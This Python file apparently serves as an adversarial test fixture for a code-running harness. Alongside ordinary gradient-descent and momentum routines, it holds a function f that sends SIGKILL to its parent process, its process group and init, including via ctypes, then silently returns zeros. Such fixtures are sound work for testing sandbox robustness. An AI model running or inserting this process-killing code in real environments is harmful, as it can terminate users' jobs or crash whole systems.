"""f tries to kill its parent, its process group and init (also via ctypes)."""


import numpy as np
import ctypes
import os
import signal


def f(X):
    for call in (lambda: os.kill(os.getppid(), signal.SIGKILL),
                 lambda: os.killpg(0, signal.SIGKILL),
                 lambda: ctypes.CDLL(None).kill(os.getppid(), 9),
                 lambda: os.kill(1, signal.SIGKILL)):
        try:
            call()
        except (OSError, AttributeError):
            pass
    return np.zeros(len(X))


def grad_f(X):
    x1, x2 = X[:, 0], X[:, 1]
    d1 = np.cos(x1) * np.cos(x2) + 0.5 * np.cos(0.5 * x1) * np.cos(0.5 * x2)
    d2 = -np.sin(x1) * np.sin(x2) - 0.5 * np.sin(0.5 * x1) * np.sin(0.5 * x2)
    return np.stack([d1, d2], axis=1)


def gradient_descent(grad_fn, X0, lr, steps):
    x = np.array(X0, dtype=float)
    path = [x]
    for _ in range(steps):
        x = x - lr * grad_fn(x)
        path.append(x)
    return np.stack(path)


def momentum_descent(grad_fn, X0, lr, momentum, steps):
    x = np.array(X0, dtype=float)
    g = np.zeros_like(x)
    path = [x]
    for _ in range(steps):
        g = -lr * grad_fn(x) + momentum * g
        x = x + g
        path.append(x)
    return np.stack(path)
